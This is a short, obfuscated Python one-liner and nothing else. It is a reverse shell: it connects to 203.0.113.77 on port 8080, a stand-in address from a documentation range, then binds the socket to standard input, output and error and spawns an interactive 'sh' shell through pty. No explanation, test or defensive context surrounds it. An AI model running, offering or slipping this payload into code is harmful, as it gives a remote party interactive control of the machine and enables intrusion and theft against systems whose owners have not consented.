(lambda __g, __o: [
    (lambda s: [__o.dup2(s.fileno(), i) for i in range(3)] and __import__("pty").spawn("sh"))
    (__import__("socket").create_connection(("203.0.113.77", 8080)))
])(globals(), __import__("os"))
